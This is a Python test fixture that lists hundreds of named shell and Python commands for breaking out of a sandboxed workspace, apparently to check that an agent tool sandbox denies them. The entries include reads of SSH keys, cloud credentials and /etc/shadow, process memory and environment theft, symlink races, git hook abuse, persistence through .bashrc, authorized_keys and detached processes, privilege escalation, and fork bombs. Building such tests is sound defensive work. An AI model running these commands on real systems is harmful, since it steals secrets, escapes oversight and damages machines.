# ruff: noqa: E501, a command that is broken into lines is another one
"""Ways out of a workspace, as an attacker tries them. Written without a look at what the tools deny.

What stands in braces is put in by `outside.Outside.filled`: `{S}` a secret file in `{O}`, a folder outside; `{H}` a
home with keys; `{W}` the workspace; `{V}` a process that holds the secret; `{P}` and `{U}` a TCP and a UDP port;
`{X}` and `{D}` sockets by path, stream and datagram; `{A}` an abstract one; `{L}` a number of seconds that nobody
else sleeps; `{T}` a name that nothing has yet; `{F}` prints the secret, after something worked that must not.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Bypass:
    """`tcp` goes out by the internet's sockets, which `restricted` allows. `wild` would harm this machine if it were
    let, so it is never tried without walls."""

    name: str
    command: str
    tcp: bool = False
    wild: bool = False


def _rows(text: str, **kind: bool) -> list[Bypass]:
    """One bypass a line; a line that is indented goes on with the last one. The first word is its name."""
    rows: list[list[str]] = []
    for line in text.strip("\n").splitlines():
        if line.startswith("    "):
            rows[-1].append(line[4:])
        elif line.strip():
            rows.append([line])
    named = ["\n".join(row).split(" ", 1) for row in rows]
    return [Bypass(name, command, **kind) for name, command in named]


QUOTING = _rows(r"""
plain cat {S}
quoted 'c'"a"t '{S}'
backslashed \c\a\t {S}
split-word c${{x}}at {S}
variable a=c; b=at; $a$b {S}
ifs IFS=,; a='cat,{S}'; $a
base64 $(echo Y2F0 | base64 -d) {S}
base64-script echo 'Y2F0ICIkMSI=' | base64 -d > s; sh s {S}
octal $(printf '\143\141\164') {S}
eval eval "$(printf '\143\141\164') {S}"
rot13 $(echo png | tr a-z n-za-m) {S}
reversed $(echo tac | rev) {S}
glob-program /?in/c?t {S}
glob-file cat {O}/s*t.txt
bracket-glob cat {O}/[s]ecret.*
brace-expansion bash -c '{{cat,{S}}}'
ansi-c bash -c "\$'\\x63\\x61\\x74' {S}"
tilde-home bash -c 'HOME={H}; cat ~/.ssh/id_rsa'
double-slash cat //{S}
dots cat {W}/../{S0}
many-dots cat ../../../../../../../../../../../..{S}
newline echo x
    cat {S}
comment-split true #'
    cat {S} #'
here-document sh <<'END'
    cat {S}
    END
here-document-python python3 <<'END'
    print(open("{S}").read())
    END
here-string bash -c "bash <<< 'cat {S}'"
process-substitution bash -c 'cat <(cat {S})'
function f() {{ cat "$1"; }}; f {S}
alias alias l='cat {S}'
    l
positional set -- cat {S}; "$@"
subshell (cat {S})
trap trap 'cat {S}' EXIT
arithmetic bash -c 'a[$(cat {S} >&2)]=1; echo $((a[0]))'
prompt bash -c 'x='\''$(cat {S})'\''; echo "${{x@P}}"'
""")

READERS = _rows(r"""
redirect cat < {S}
read-builtin read x < {S}; echo "$x"
descriptor exec 5< {S}; cat <&5
mapfile bash -c 'mapfile a < {S}; echo "${{a[@]}}"'
command-substitution bash -c 'echo "$(<{S})"'
source . {S}
run-as-script sh {S}
head head -c 100 {S}
tail tail -n +1 {S}
tac tac {S}
nl nl {S}
paste paste {S}
sort sort {S}
od od -c -An -v {S} | tr -d ' \n'
cut cut -c1- {S}
fold fold {S}
dd dd if={S} status=none
diff diff /dev/null {S}
grep grep '' {S}
grep-recursive grep -rh SECRET {O}
find-exec find {O} -name 'secret*' -exec cat {{}} +
xargs echo {S} | xargs cat
env-program env -i /bin/cat {S}
env-split env -S 'cat {S}'
awk-getline awk 'BEGIN {{ while ((getline l < "{S}") > 0) print l }}'
awk-system awk 'BEGIN {{ system("cat {S}") }}'
sed-read echo x | sed 'r {S}'
sed-execute echo x | sed '1e cat {S}'
tar tar cf - -C {O} secret.txt
copy-here cp {S} here && cat here
copy-tree cp -r {O} there && cat there/secret.txt
move-here mv {S} here; cat here
install-here install {S} here && cat here
make-file printf 'a:\n\t@echo $(file <{S})\n' > Makefile; make
make-shell printf 'a:\n\t@cat {S}\n' > Makefile; make
curl-file curl -s file://{S}
loader /lib64/ld-linux-x86-64.so.2 /usr/bin/cat {S}
timeout-program timeout 5 cat {S}
nohup-program nohup cat {S}
compiler echo '#include "{S}"' | gcc -E -xc - 2>&1
assembler printf '.incbin "{S}"\n' > a.s; as a.s -o a.o && cat a.o
date-file date -f {S}
wc-files printf '{S}\0' | wc --files0-from=-; cat {S} | wc -c; tr -d '' < {S}
""")

INTERPRETERS = _rows(r"""
python python3 -c 'print(open("{S}").read())'
python-pathlib python3 -c 'import pathlib; print(pathlib.Path("{S}").read_text())'
python-subprocess python3 -c 'import subprocess; subprocess.run(["cat", "{S}"])'
python-traceback python3 {S}
python-mmap python3 -c 'import mmap; f=open("{S}"); print(mmap.mmap(f.fileno(), 0, prot=1)[:])'
python-dirfd python3 -c 'import os; d=os.open("{O}", os.O_PATH); print(os.read(os.open("secret.txt", 0, dir_fd=d), 99))'
python-path-fd python3 -c 'import os; f=os.open("{S}", os.O_PATH); print(open(f"/proc/self/fd/{{f}}").read())'
python-chdir python3 -c 'import os; os.chdir("{O}"); print(open("secret.txt").read())'
python-list python3 -c 'import os; print([open("{O}/"+n).read() for n in os.listdir("{O}") if n.endswith("txt")])'
python-sendfile python3 -c 'import os; os.sendfile(1, os.open("{S}", 0), 0, 99)'
python-copy-range python3 -c 'import os; o=os.open("c", 66); os.copy_file_range(os.open("{S}", 0), o, 99)'; cat c
python-splice python3 -c 'import os; r,w=os.pipe(); os.splice(os.open("{S}", 0), w, 99); print(os.read(r, 99))'
python-thread python3 -c 'import threading as t; a=t.Thread(target=lambda: print(open("{S}").read())); a.start(); a.join()'
python-memory-program python3 -c 'import os; m=os.memfd_create("m"); os.write(m, open("/bin/cat","rb").read()); os.execve(m, ["cat","{S}"], {{}})'
perl perl -e 'open F, "{S}"; print <F>'
perl-exec perl -e 'exec "cat", "{S}"'
node node -e 'console.log(require("fs").readFileSync("{S}", "utf8"))'
node-promises node -e 'require("fs").promises.readFile("{S}", "utf8").then(console.log)'
node-child node -e 'console.log(require("child_process").execSync("cat {S}").toString())'
node-worker node -e 'const {{Worker}}=require("worker_threads"); new Worker("console.log(require(`fs`).readFileSync(`{S}`,`utf8`))", {{eval: true}})'
raw-open python3 -c 'import ctypes; c=ctypes.CDLL(None); b=ctypes.create_string_buffer(99); f=c.syscall(2, b"{S}", 0); c.syscall(0, f, b, 99); print(b.value)'
raw-openat2 python3 -c 'import ctypes, struct; c=ctypes.CDLL(None); b=ctypes.create_string_buffer(99); f=c.syscall(437, -100, b"{S}", struct.pack("QQQ",0,0,0), 24); c.syscall(0, f, b, 99); print(b.value)'
by-handle python3 -c '
    import ctypes, os
    c = ctypes.CDLL(None)
    h = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(132), 136)
    m = ctypes.c_int()
    c.name_to_handle_at(-100, b"{S}", h, ctypes.byref(m), 0)
    f = c.open_by_handle_at(os.open(".", 0), h, 0)
    print(os.read(f, 99))'
""")

LINKS = _rows(r"""
symlink ln -s {S} l; cat l
symlink-folder ln -s {O} d; cat d/secret.txt
symlink-relative ln -s ../{O1}/secret.txt l; cat l
symlink-chain ln -s {S} a; ln -s a b; ln -s b c; cat c
symlink-dotdot mkdir -p a/b; ln -s a/b l; cat l/../../../{O1}/secret.txt
symlink-proc ln -s /proc/self/root{S} l; cat l
symlink-write ln -s {O}/{T} l; echo x > l
symlink-append ln -s {S} l; echo x >> l
hard-link ln {S} h; cat h
hard-link-write ln {S} h; echo x >> h
hard-link-python python3 -c 'import os; os.link("{S}", "h"); print(open("h").read())'
link-by-descriptor python3 -c 'import ctypes, os; f=os.open("{S}", os.O_PATH); ctypes.CDLL(None).linkat(-100, b"/proc/self/fd/%d" % f, -100, b"h", 0x400); print(open("h").read())'
planted-link cat planted-link
planted-folder cat planted-folder/secret.txt
planted-folder-write echo x > planted-folder/{T}
rename-folder-out mkdir d; mv d {O}/{T}
exchange python3 -c 'import ctypes; open("x","w").close(); ctypes.CDLL(None).renameat2(-100, b"x", -100, b"{S}", 2)'; cat x
cd-and-read cd {O} && cat secret.txt
cd-through-link cd planted-folder && cat secret.txt
cd-dotdot cd {W}/.. && cat {O1}/secret.txt
race mkdir -p a; echo no > a/secret.txt; (while :; do ln -sfn a r; ln -sfn {O} r; done) & for i in $(seq 300); do cat r/secret.txt; done 2>&1 | sort -u; kill $!
race-write mkdir -p a; (while :; do ln -sfn a r; ln -sfn {O} r; done) & for i in $(seq 300); do echo x > r/{T}; done 2>&1 | sort -u; kill $!
race-rename python3 -c '
    import os, threading, time
    os.makedirs("a/b", exist_ok=True)
    end = time.time() + 1
    def swap():
        while time.time() < end:
            for source, target in (("a/b", "c"), ("c", "a/b")):
                try: os.rename(source, target)
                except OSError: pass
    threading.Thread(target=swap).start()
    while time.time() < end:
        try: print(open("a/b/../../../{O1}/secret.txt").read()); break
        except OSError: pass'
""")

PROC = _rows(r"""
proc-root cat /proc/self/root{S}
proc-cwd cat /proc/self/cwd/../{O1}/secret.txt
proc-thread-root cat /proc/thread-self/root{S}
proc-first-root cat /proc/1/root{S}
proc-victim-root cat /proc/{V}/root{S}
proc-victim-cwd cat /proc/{V}/cwd/secret.txt
proc-victim-descriptor cat /proc/{V}/fd/7
proc-victim-environment cat /proc/{V}/environ
proc-all-environments cat /proc/[0-9]*/environ
proc-victim-arguments cat /proc/{V}/cmdline
proc-task-root cat /proc/{V}/task/{V}/root{S}
proc-parents p=$$; for i in 1 2 3 4 5 6; do cat /proc/$p/root{S} && break; p=$(cut -d' ' -f4 /proc/$p/stat); done
proc-memory python3 -c '
    import re
    for line in open("/proc/{V}/maps"):
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        if "[heap]" in line or "[stack]" in line:
            m = open("/proc/{V}/mem", "rb"); m.seek(low); print(re.findall(rb"SECRET-\w+", m.read(high - low)))'
process-vm-read python3 -c '
    import ctypes, re
    c = ctypes.CDLL(None, use_errno=True)
    class V(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("n", ctypes.c_size_t)]
    for line in open("/proc/{V}/maps"):
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        if "[stack]" in line:
            b = ctypes.create_string_buffer(high - low)
            c.process_vm_readv({V}, ctypes.byref(V(ctypes.addressof(b), high - low)), 1, ctypes.byref(V(low, high - low)), 1, 0)
            print(re.findall(rb"SECRET-\w+", b.raw))'
pidfd-getfd python3 -c 'import ctypes, os; p=os.pidfd_open({V}); f=ctypes.CDLL(None).syscall(438, p, 7, 0); print(os.pread(f, 99, 0))'
ptrace-stop python3 -c 'import ctypes, os, time; c=ctypes.CDLL(None); r=c.ptrace(16, {V}, 0, 0); time.sleep(.2); os._exit(print(open("/proc/{V}/status").read()) or 0) if r == 0 else 0; '
debugger gdb -batch -nx -p {V} -ex 'call (int)close(7)'
inherited-descriptors python3 -c '
    import os
    for f in range(3, 256):
        try: print(f, os.read(f, 99), os.readlink(f"/proc/self/fd/{{f}}"))
        except OSError: pass
        try: print(open(f"/proc/self/fd/{{f}}/../{O1}/secret.txt").read())
        except OSError: pass'
""")

GIT = _rows(r"""
git-no-index git diff --no-index /dev/null {S}
git-hash git init -q .; git cat-file blob $(git hash-object -w {S})
git-alias git init -q .; git config alias.x '!cat {S}'; git x
git-alias-option git -c alias.x='!cat {S}' x
git-pre-commit git init -q .; printf '#!/bin/sh\ncat {S}\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git -c user.name=a -c user.email=a@b commit --allow-empty -m x
git-hooks-path mkdir k; printf '#!/bin/sh\necho x > {O}/{T}\n' > k/post-commit; chmod +x k/post-commit; git init -q .; git -c core.hooksPath=k -c user.name=a -c user.email=a@b commit --allow-empty -m x
git-credentials printf 'protocol=https\nhost=x\n' | git -c credential.helper='!cat {S} >&2;:' credential fill
git-editor git init -q .; GIT_EDITOR='cat {S};:' git -c user.name=a -c user.email=a@b commit --allow-empty
git-fsmonitor git init -q .; git -c core.fsmonitor='cat {S} >&2;:' status
git-external-diff git init -q .; echo a > f; git add f; echo b > f; GIT_EXTERNAL_DIFF='cat {S};:' git diff
git-textconv git init -q .; echo 'f diff=x' > .gitattributes; echo a > f; git add f; echo b > f; git -c diff.x.textconv='cat {S} >&2;:' diff f
git-filter git init -q .; echo 'f filter=x' > .gitattributes; echo a > f; git -c filter.x.clean='cat {S} >&2; cat' add f
git-ssh GIT_SSH_COMMAND='cat {S} >&2;:' git ls-remote ssh://nowhere/x
git-ext echo 'cat {S} >&2' > x; git -c protocol.ext.allow=always ls-remote 'ext::sh x'
git-clone-file git clone -q file://{O}/repository c; cat c/secret.txt
git-clone-local git clone -q {O}/repository c; cat c/secret.txt
git-outside-folder git -C {O} init -q {T}
git-work-tree git init -q .; GIT_WORK_TREE={O} git add secret.txt; git cat-file blob :secret.txt
git-write-tree git init -q .; echo x > {T}; git add {T}; GIT_WORK_TREE={O} git checkout-index -f {T}
git-worktree git init -q .; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; git worktree add {O}/{T}
git-config-file git config -f {S} -l 2>&1
git-archive git init -q .; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; git archive -o {O}/{T} HEAD
git-template mkdir -p t/hooks; git init -q --template={O}/repository .; find .git -name 'secret*' -exec cat {{}} +
""")

ENVIRONMENT = _rows(r"""
bash-env BASH_ENV={S} bash -c : 2>&1
python-path mkdir p; echo 'print(open("{S}").read())' > p/sitecustomize.py; PYTHONPATH=p python3 -c 0
python-home PYTHONINSPECT=1 PYTHONSTARTUP={S} python3 -c 0; echo 'print(open("{S}").read())' | python3 -i 2>&1
node-options NODE_OPTIONS='--require {S}' node -e 0 2>&1
perl-options PERL5OPT='-M-strict' perl -ne print {S}
path-shadow printf '#!/bin/sh\n/bin/cat {S}\n' > ls; chmod +x ls; PATH=.:$PATH; ls
preload LD_PRELOAD={S} true 2>&1; LD_LIBRARY_PATH={O} sh -c 'cat {S}'
home-of-the-user cat {H}/.ssh/id_rsa
home-settings cat {H}/.aws/credentials
home-of-the-user-copied cp -r {H}/.ssh k && cat k/id_rsa
own-environment env | grep -i secret
""")

WRITERS = _rows(r"""
redirect-out echo x > {O}/{T}
append-out echo x >> {S}
truncate-out : > {S}
clobber-out echo x >| {O}/{T}
tee-out echo x | tee {O}/{T}
touch-out touch {O}/{T}
touch-time touch -d 2001-01-01 {S}
copy-out echo x > y; cp y {O}/{T}
move-out echo x > y; mv y {O}/{T}
install-out echo x > y; install y {O}/{T}
make-folder mkdir {O}/{T}
link-into ln -s x {O}/{T}
hard-link-into echo x > y; ln y {O}/{T}
delete rm -f {S}
delete-tree rm -rf {O}/tree
delete-folder rmdir {O}/empty
delete-all find {O} -mindepth 1 -delete
rename-out mv {S} {O}/{T}
truncate-program truncate -s 0 {S}
truncate-by-path python3 -c 'import os; os.truncate("{S}", 0)'
truncate-reading python3 -c 'import os; os.open("{S}", os.O_RDONLY | os.O_TRUNC)'
mode chmod 777 {S}
mode-folder chmod 700 {O}/empty
mode-python python3 -c 'import os; os.chmod("{S}", 0o777)'
mode-descriptor python3 -c 'import os; os.fchmod(os.open("{S}", os.O_RDONLY), 0o777)'
mode-path-descriptor python3 -c 'import os; f=os.open("{S}", os.O_PATH); os.chmod(f"/proc/self/fd/{{f}}", 0o777)'
mode-at-2 python3 -c 'import ctypes, os; f=os.open("{S}", os.O_PATH); ctypes.CDLL(None).syscall(452, f, b"", 0o777, 0x1000)'
owner chown 12345 {S}
owner-link chown -h 12345 {O}/link
times-python python3 -c 'import os; os.utime("{S}", (1, 1))'
times-descriptor python3 -c 'import os; os.utime(os.open("{S}", os.O_RDONLY), (1, 1))'
attribute python3 -c 'import os; os.setxattr("{S}", "user.x", b"x")'
attribute-folder python3 -c 'import os; os.setxattr("{O}", "user.x", b"x")'
fifo mkfifo {O}/{T}
socket-file python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("{O}/{T}")'
dd-out echo x | dd of={O}/{T} status=none
sed-in-place sed -i s/SECRET/x/ {S}
perl-in-place perl -pi -e s/SECRET/x/ {S}
sort-output echo x | sort -o {O}/{T}
awk-output awk 'BEGIN {{ print "x" > "{O}/{T}" }}'
find-output find . -fprint {O}/{T}
split-output echo x | split - {O}/{T}
tar-extract echo x > {T}; tar cf t.tar {T}; tar xf t.tar -C {O}
tar-dotdot mkdir -p a; echo x > {T}; tar cPf t.tar --transform 's,^,../{O1}/,' {T}; tar xPf t.tar
patch-out printf -- '--- a\n+++ {O}/{T}\n@@ -0,0 +1 @@\n+x\n' > p; patch -p0 {O}/{T} p
node-write node -e 'require("fs").writeFileSync("{O}/{T}", "x")'
python-write python3 -c 'open("{O}/{T}", "w").write("x")'
python-mmap-write python3 -c 'import mmap; f=open("{S}", "r+b"); mmap.mmap(f.fileno(), 0)[:1] = b"x"'
python-zip python3 -c 'import zipfile; z=zipfile.ZipFile("z","w"); z.writestr("{T}","x"); z.extractall("{O}")'
curl-output curl -s -o {O}/{T} file:///etc/hosts; echo x | curl -s -o {O}/{T} file:///dev/stdin
compile-out echo 'int main;' | gcc -w -xc - -c -o {O}/{T}
sqlite python3 -c 'import sqlite3; c=sqlite3.connect("{O}/{T}"); c.execute("create table t(a)")'
shared-temporary echo x > /tmp/{T}
shared-memory echo x > /dev/shm/{T}
other-temporary echo x > /var/tmp/{T}
shell-start-file echo 'echo x' >> {H}/.bashrc
key-list echo x >> {H}/.ssh/authorized_keys
autostart mkdir -p {H}/.config/autostart && echo x > {H}/.config/autostart/{T}
allocate python3 -c 'import os; os.posix_fallocate(os.open("{S}", os.O_RDWR), 0, 99999)'
""")

SOCKETS = _rows(r"""
unix-python python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect("{X}"); s.send(b"x")'
unix-datagram python3 -c 'import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", "{D}")'
unix-pair-datagram python3 -c 'import socket; a,b=socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b"x", "{D}")'
unix-pair-reconnected python3 -c 'import socket; a,b=socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.connect("{D}"); a.send(b"x")'
unix-abstract python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect("\0{A}"); s.send(b"x")'
unix-through-link ln -s {X} s; python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect("s")'
unix-through-proc python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect("/proc/self/root{X}")'
unix-short-path cd {O}; python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect("stream.sock")'
unix-curl curl -s --max-time 2 --unix-socket {X} http://x/
unix-node node -e 'require("net").connect("{X}").on("connect", () => process.exit()).on("error", console.error)'
unix-perl perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => "{X}") or die'
unix-raw python3 -c 'import ctypes, struct; c=ctypes.CDLL(None); s=c.syscall(41, 1, 1, 0); c.syscall(42, s, struct.pack("H", 1)+b"{X}\0", 110)'
unix-io-uring python3 -c '
    import ctypes, mmap, os, struct
    c = ctypes.CDLL(None)
    p = ctypes.create_string_buffer(120)
    r = c.syscall(425, 4, p)
    f = struct.unpack("30I", p.raw)
    m = mmap.mmap(r, f[16] + 64, offset=0)
    q = mmap.mmap(r, 256, offset=0x10000000)
    q[:64] = struct.pack("=BBHiQQIIQHHiQQ", 45, 0, 0, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0)
    m[f[16]:f[16] + 4] = struct.pack("I", 0)
    m[f[11]:f[11] + 4] = struct.pack("I", 1)
    c.syscall(426, r, 1, 1, 1, 0, 0)
    for s in range(3, 20):
        c.syscall(42, s, struct.pack("H", 1) + b"{X}\0", 110)'
""")

INTERNET = _rows(
    r"""
tcp-curl curl -s --max-time 2 http://127.0.0.1:{P}/
tcp-bash bash -c 'echo x > /dev/tcp/127.0.0.1/{P}'
tcp-python python3 -c 'import socket; socket.create_connection(("127.0.0.1", {P})).send(b"x")'
tcp-name python3 -c 'import socket; socket.create_connection(("localhost", {P})).send(b"x")'
tcp-any-address python3 -c 'import socket; socket.create_connection(("0.0.0.0", {P})).send(b"x")'
tcp-mapped python3 -c 'import socket; s=socket.socket(socket.AF_INET6); s.connect(("::ffff:127.0.0.1", {P}))'
tcp-node node -e 'require("net").connect({P}, "127.0.0.1").on("connect", () => process.exit()).on("error", console.error)'
tcp-perl perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:{P}") or die'
tcp-git git ls-remote http://127.0.0.1:{P}/x
tcp-wget wget -q -T 2 -t 1 -O - http://127.0.0.1:{P}/
tcp-fast-open python3 -c 'import socket; socket.socket().sendto(b"x", 0x20000000, ("127.0.0.1", {P}))'
tcp-multipath python3 -c 'import socket; s=socket.socket(2, 1, 262); s.connect(("127.0.0.1", {P}))'
tcp-non-blocking python3 -c 'import socket, time; s=socket.socket(); s.setblocking(0); s.connect_ex(("127.0.0.1", {P})); time.sleep(.2)'
tcp-raw-call python3 -c 'import ctypes, struct, socket; c=ctypes.CDLL(None); s=c.syscall(41, 2, 1, 0); c.syscall(42, s, struct.pack("=H", 2)+struct.pack("!H", {P})+socket.inet_aton("127.0.0.1")+bytes(8), 16)'
udp-python python3 -c 'import socket; socket.socket(2, 2).sendto(b"x", ("127.0.0.1", {U}))'
udp-bash bash -c 'echo x > /dev/udp/127.0.0.1/{U}'
udp-connected python3 -c 'import socket; s=socket.socket(2, 2); s.connect(("127.0.0.1", {U})); s.send(b"x")'
udp-node node -e 'const s=require("dgram").createSocket("udp4"); s.send("x", {U}, "127.0.0.1", () => s.close())'
udp-curl curl -s --max-time 1 tftp://127.0.0.1:{U}/x
udp-lookup python3 -c 'import socket, struct; socket.socket(2, 2).sendto(struct.pack("!6H", 1, 256, 1, 0, 0, 0), ("127.0.0.1", {U}))'
tcp-server-through-tee bash -c 'exec 9<>/dev/tcp/127.0.0.1/{P}; echo x >&9'
""",
    tcp=True,
)

PROCESSES = _rows(r"""
signal kill -9 {V}
signal-stop kill -STOP {V}
signal-python python3 -c 'import os; os.kill({V}, 9)'
signal-queue python3 -c 'import ctypes; ctypes.CDLL(None).sigqueue({V}, 9, 0)'
signal-thread python3 -c 'import ctypes; ctypes.CDLL(None).syscall(234, {V}, {V}, 9)'
signal-pidfd python3 -c 'import os, signal; signal.pidfd_send_signal(os.pidfd_open({V}), 9)'
signal-owner python3 -c 'import fcntl, os; r,w=os.pipe(); fcntl.fcntl(r, fcntl.F_SETSIG, 9); fcntl.fcntl(r, fcntl.F_SETOWN, {V}); fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC); os.write(w, b"x")'
nicer renice 15 -p {V}
affinity python3 -c 'import os; os.sched_setaffinity({V}, {{0}})'
bounds python3 -c 'import resource; resource.prlimit({V}, resource.RLIMIT_NOFILE, (9, 9))'
scheduler python3 -c 'import os; os.sched_setscheduler({V}, os.SCHED_IDLE, os.sched_param(0))'
survive-background sleep {L} &
survive-nohup nohup sleep {L} > /dev/null 2>&1 &
survive-session setsid sleep {L} > /dev/null 2>&1 < /dev/null &
survive-subshell (sleep {L} &) > /dev/null 2>&1
survive-disown bash -c 'sleep {L} > /dev/null 2>&1 & disown -a'
survive-daemon python3 -c '
    import os, sys
    if os.fork(): sys.exit()
    os.setsid()
    if os.fork(): sys.exit()
    os.chdir("/")
    for f in range(3): os.close(f)
    os.execlp("sleep", "sleep", "{L}")'
survive-deaf python3 -c '
    import os, signal, sys, time
    if os.fork(): sys.exit()
    os.setsid()
    for n in range(1, 32):
        try: signal.signal(n, signal.SIG_IGN)
        except OSError: pass
    os.close(0), os.close(1), os.close(2)
    time.sleep({L})'
survive-group python3 -c '
    import os
    os.setpgid(0, 0)
    if os.fork() == 0:
        os.setpgid(0, 0)
        for f in range(3): os.close(f)
        os.execlp("sleep", "sleep", "{L}")'
survive-stopped sh -c 'kill -STOP $$; sleep {L}' > /dev/null 2>&1 &
    sleep {L} > /dev/null 2>&1 &
survive-node node -e 'require("child_process").spawn("sleep", ["{L}"], {{detached: true, stdio: "ignore"}}).unref()'
survive-many for i in $(seq 30); do setsid sh -c 'setsid sleep {L} &' > /dev/null 2>&1 & done
late-write (sleep 0.4; echo x > {O}/{T}) > /dev/null 2>&1 &
late-write-session setsid sh -c 'sleep 0.4; echo x > {O}/{T}' > /dev/null 2>&1 &
coprocess bash -c 'coproc sleep {L}; disown'
""")

POWERS = _rows(
    r"""
parent-killed setsid sleep {L} > /dev/null 2>&1 & kill -9 $PPID; sleep 0.2
proc-descriptors for f in 3 4 5 6 7 8 9 10 11 12; do cat /proc/$PPID/fd/$f; done
killall killall -9 -r victim-{T}; pkill -9 -f victim-{T}
chroot chroot / cat {S}
unshare-mounts unshare -Urm sh -c 'mount --bind {O} . ; cat {S}'
unshare-network unshare -Urn cat {S}
unshare-processes unshare -Urpf --mount-proc sh -c 'cat {S}'
enter-first nsenter -t 1 -a cat {S}
enter-victim nsenter -t {V} -m cat {S}
bind-mount mount --bind {O} . && cat secret.txt
temporary-mount mkdir m; mount -t tmpfs x m && {F}
unmount umount -l {W} && {F}; umount -l /tmp && {F}; cat {S}
raw-disk for d in /dev/vda /dev/sda /dev/nvme0n1; do head -c 1 $d > /dev/null && {F}; done
device-node mknod d b 254 0 && {F}; mknod /dev/shm/d b 254 0 && {F}; mknod /tmp/d c 1 1 && {F}
elevate sudo -n cat {S}
elevate-su su -c 'cat {S}'
elevate-setpriv setpriv --reuid 0 --bounding-set +all cat {S}
capability python3 -c 'import ctypes, os; ctypes.CDLL(None).prctl(24, 21); os.setuid(0); print(open("{S}").read())'
script-terminal script -qec 'cat {S}' /dev/null
kernel-message dmesg && {F}
kill-everything kill -9 -1; sleep {L}
fork-bomb f() {{ f | f & }}; f; sleep {L}
fork-bomb-python python3 -c '
    import os
    while True:
        try: os.fork()
        except OSError: pass'
core-pattern cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern && {F}
core-pattern-opened : 3>> /proc/sys/kernel/core_pattern && {F}
module-path : 3>> /proc/sys/kernel/modprobe && {F}
system-request echo h > /proc/sysrq-trigger && {F}
devices-helper : 3>> /sys/kernel/uevent_helper && {F}
group-agent mkdir g; mount -t cgroup -o pids x g && {F}; : 3>> /sys/fs/cgroup/pids/release_agent && {F}
group-leave echo $$ > /sys/fs/cgroup/pids/cgroup.procs && {F}; echo 0 > /sys/fs/cgroup/cgroup.procs && {F}
hostname hostname "$(hostname)" && {F}
clock date -s "$(date)" && {F}
system-program echo x > /usr/local/bin/{T}
system-settings echo x > /etc/{T}
system-passwords cat /etc/shadow && {F}; cat /etc/gshadow && {F}; cat /etc/ssh/ssh_host_*_key && {F}
system-mode chmod 644 /etc/hostname && {F}; touch /etc/hostname && {F}
system-logs cat /var/log/dpkg.log && {F}; ls /var/lib/dpkg && {F}
system-top echo x > /{T}
root-home echo x > /root/{T}; ls /root && {F}; cat /root/.bashrc && {F}
schedule echo '* * * * * touch {O}/{T}' | crontab - && {F}; echo 'touch {O}/{T}' | at now && {F}
keyring python3 -c 'import ctypes, os; k=ctypes.CDLL(None).syscall(248, b"user", b"{T}", b"x", 1, -4); k > 0 and os.system("{F}")'
perf python3 -c 'import ctypes, os; k=ctypes.CDLL(None).syscall(321, 0, bytes(72), 72); k > 0 and os.system("{F}")'
system-call-of-32-bits printf '.globl _start\n_start: mov $359,%%eax; mov $1,%%ebx; mov $1,%%ecx; xor %%edx,%%edx; int $0x80; test %%eax,%%eax; js 1f; mov $1,%%eax; xor %%ebx,%%ebx; int $0x80\n1: mov $1,%%eax; mov $1,%%ebx; int $0x80\n' > a.s; gcc -nostdlib -static -no-pie a.s -o a && ./a && {F}
environment-of-the-host env | grep -E 'WEBHAND_|GEMINI' && {F}; cat /proc/*/environ | tr '\0' '\n' | grep -i secret
""",
    wild=True,
)

BYPASSES = [
    *QUOTING,
    *READERS,
    *INTERPRETERS,
    *LINKS,
    *PROC,
    *GIT,
    *ENVIRONMENT,
    *WRITERS,
    *SOCKETS,
    *INTERNET,
    *PROCESSES,
    *POWERS,
]
